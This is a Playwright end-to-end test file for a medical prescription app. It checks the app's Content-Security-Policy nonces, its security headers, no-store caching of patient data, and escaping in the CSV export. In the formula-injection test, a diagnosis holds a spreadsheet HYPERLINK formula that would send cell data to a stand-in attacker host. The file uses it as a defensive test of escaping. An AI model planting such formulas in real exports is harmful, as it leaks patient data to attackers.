import { expect, test, type APIRequestContext, type Page } from "@playwright/test";
import { DateTime } from "luxon";
import { USERS, apiToken, bearer, demoDrugId, expectHydrated, storageFor, watchViolations } from "./fixtures";

// Issue 15, section 5 (headers and documents), on the production server: every page runs under a
// strict nonce-based Content-Security-Policy with no violation (Next's scripts carry the response's
// nonce, the charts draw, the forms validate; each role's pages are walked in e2e/pages.spec.ts, the
// public ones here), the API's answers are never stored, and a formula typed into a diagnosis
// reaches the admin's CSV as text.

const nonceOf = (csp: string | undefined) => /'nonce-([^']+)'/.exec(csp ?? "")?.[1];

/** Opens the page, waits for it to settle, and checks that Next's client code ran (it hydrated). */
async function visit(page: Page, path: string) {
  const res = await page.goto(path);
  expect(res?.status(), path).toBeLessThan(500);
  await expectHydrated(page, path);
}

async function demoPatientId(request: APIRequestContext, q: string): Promise<string> {
  const { token } = await apiToken(request, USERS.DOCTOR);
  const res = await request.get(`/api/v1/patients?q=${encodeURIComponent(q)}`, { headers: bearer(token) });
  expect(res.status()).toBe(200);
  return (await res.json()).items[0].id as string;
}

/** A prescription by the demo doctor for Sam Patient (any earlier one acknowledged): its id and its public /rx/… path. */
async function prescription(request: APIRequestContext): Promise<{ id: string; rxPath: string }> {
  const { token } = await apiToken(request, USERS.DOCTOR);
  const res = await request.post("/api/v1/prescriptions", {
    headers: bearer(token),
    data: {
      patientId: await demoPatientId(request, "Sam Patient"),
      items: [
        {
          drugId: await demoDrugId(request),
          dose: "500 mg",
          route: "oral",
          frequency: "three times a day",
          durationDays: 5,
        },
      ],
      overrideReason: "Repeat course, reviewed",
    },
  });
  expect(res.status(), await res.text()).toBe(201);
  const rx = await res.json();
  return { id: rx.id, rxPath: new URL(rx.verifyUrl).pathname };
}

test.describe("Content-Security-Policy", () => {
  // Every page each role opens is walked under the policy by e2e/pages.spec.ts (with the accessibility
  // checks, in one walk); here, the pages anyone can open without signing in.
  test("the public pages too: sign-in, registration, password links, the prescription check, the API docs", async ({
    browser,
    request,
  }) => {
    const { rxPath } = await prescription(request);
    const context = await browser.newContext();
    const page = await context.newPage();
    const violations = await watchViolations(context, page);
    for (const path of [
      "/login",
      "/register",
      "/forgot-password",
      "/set-password/not-a-token",
      "/api-docs",
      rxPath,
      "/rx/not-a-token",
    ])
      await visit(page, path);
    // A client-side check of the registration form runs (zod in the browser, without eval).
    await visit(page, "/register");
    await page.getByRole("button", { name: "Create account" }).click();
    await expect(page.locator('[aria-invalid="true"]').first()).toBeVisible();
    await expect(page).toHaveURL(/\/register$/);
    await context.close();
    expect(violations).toEqual([]);
  });

  test("each page response carries its own nonce, and every script in it carries that nonce", async ({
    request,
    browser,
  }) => {
    const pages: { csp: string; html: string }[] = [];
    for (const path of ["/login", "/login", "/api-docs"]) {
      const res = await request.get(path);
      pages.push({ csp: res.headers()["content-security-policy"], html: await res.text() });
    }
    const admin = await browser.newContext({ storageState: storageFor("ADMIN") });
    const dashboard = await admin.request.get("/dashboard");
    expect(dashboard.headers()["cache-control"]).toContain("no-store");
    pages.push({ csp: dashboard.headers()["content-security-policy"], html: await dashboard.text() });
    await admin.close();

    for (const { csp, html } of pages) {
      expect(csp).toMatch(
        /^default-src 'self'; script-src 'self' 'nonce-[A-Za-z0-9+/]+={0,2}' 'strict-dynamic'; style-src 'self' 'nonce-[^']+'; /,
      );
      expect(csp).toContain("object-src 'none'; base-uri 'self'; frame-ancestors 'none'; form-action 'self'");
      expect(csp).not.toContain("unsafe-");
      const scripts = [...html.matchAll(/<script\b[^>]*>/g)].map((m) => m[0]);
      expect(scripts.length).toBeGreaterThan(3);
      for (const tag of scripts) expect(tag).toContain(`nonce="${nonceOf(csp)}"`);
      expect(html).not.toMatch(/<[a-z]+\b[^>]*\sstyle="/);
    }
    expect(new Set(pages.map((p) => nonceOf(p.csp))).size).toBe(pages.length);
  });

  test("security headers on pages and API alike; no HSTS while the public URL is plain http", async ({ request }) => {
    for (const path of ["/login", "/api/v1/status", "/fhir/R4/metadata"]) {
      const h = (await request.get(path)).headers();
      expect(h["x-content-type-options"], path).toBe("nosniff");
      expect(h["x-frame-options"], path).toBe("DENY");
      expect(h["referrer-policy"], path).toBe("same-origin");
      expect(h["permissions-policy"], path).toMatch(/camera=\(\).*geolocation=\(\).*microphone=\(\).*payment=\(\)/);
      expect(h["strict-transport-security"], path).toBeUndefined();
    }
  });
});

test.describe("Cache-Control: no-store on everything that carries patient data", () => {
  test("JSON lists, a record, errors, FHIR, a PDF, a CSV, the session", async ({ request, browser }) => {
    const { id, rxPath } = await prescription(request);
    const doctor = bearer((await apiToken(request, USERS.DOCTOR)).token);
    const admin = bearer((await apiToken(request, USERS.ADMIN)).token);
    const patient = await demoPatientId(request, "Sam Patient");
    const responses = {
      "JSON list": await request.get("/api/v1/patients?q=Patient", { headers: doctor }),
      "JSON record": await request.get(`/api/v1/patients/${patient}`, { headers: doctor }),
      "401 error": await request.get("/api/v1/patients"),
      "404 error": await request.get("/api/v1/patients/no-such-patient", { headers: doctor }),
      "400 error": await request.get("/api/v1/patients?pageSize=1000", { headers: doctor }),
      "FHIR search": await request.get("/fhir/R4/Patient?name=Patient", { headers: doctor }),
      "FHIR error": await request.get("/fhir/R4/Patient/no-such-patient", { headers: doctor }),
      PDF: await request.get(`/api/v1/prescriptions/${id}/pdf`, { headers: doctor }),
      CSV: await request.get("/api/v1/reports/diagnoses.csv?from=2026-01-01&to=2026-01-31", { headers: admin }),
      "public status": await request.get("/api/v1/status"),
    };
    expect(responses.PDF.headers()["content-type"]).toBe("application/pdf");
    expect(responses.CSV.headers()["content-type"]).toContain("text/csv");
    for (const [what, res] of Object.entries(responses))
      expect(res.headers()["cache-control"], what).toMatch(/(^|, )no-store(,|$)/);

    const context = await browser.newContext({ storageState: storageFor("PATIENT") });
    const session = await context.request.get("/api/auth/session");
    expect((await session.json()).user.role).toBe("PATIENT");
    expect(session.headers()["cache-control"]).toContain("no-store");
    for (const path of ["/me/health", "/me/profile"])
      expect((await context.request.get(path)).headers()["cache-control"], path).toContain("no-store");
    await context.close();
    const anonymous = await request.get(rxPath);
    expect(anonymous.headers()["cache-control"]).toContain("no-store");
  });
});

test("a formula a doctor types into a diagnosis reaches the admin's diagnoses CSV as text, with °C intact", async ({
  request,
}) => {
  const doctor = bearer((await apiToken(request, USERS.DOCTOR)).token);
  const patientId = await demoPatientId(request, "Sam Patient");
  const evil = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
  // Codes of the shipped ICD-10-CM list (entry refuses others): the test is about the descriptions.
  for (let i = 0; i < 3; i++) {
    const res = await request.post("/api/v1/consultations", {
      headers: doctor,
      data: {
        patientId,
        assessment: "Fever.",
        diagnoses: [
          { code: "A98.4", description: evil },
          { code: "A92.0", description: "Fièvre à 39,5 °C" },
        ],
      },
    });
    expect(res.status(), await res.text()).toBe(201);
  }
  const today = DateTime.utc();
  const admin = bearer((await apiToken(request, USERS.ADMIN)).token);
  const res = await request.get(
    `/api/v1/reports/diagnoses.csv?from=${today.minus({ days: 1 }).toISODate()}&to=${today.plus({ days: 1 }).toISODate()}`,
    { headers: admin },
  );
  expect(res.status()).toBe(200);
  const bytes = await res.body();
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const lines = bytes.toString("utf8").slice(1).trimEnd().split("\n");
  expect(lines[0]).toBe("ICD-10 code,Description,Count"); // headed for a person, in the admin's language
  expect(lines).toContain('A98.4,"\'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",3');
  expect(lines).toContain('A92.0,"Fièvre à 39,5 °C",3');
});
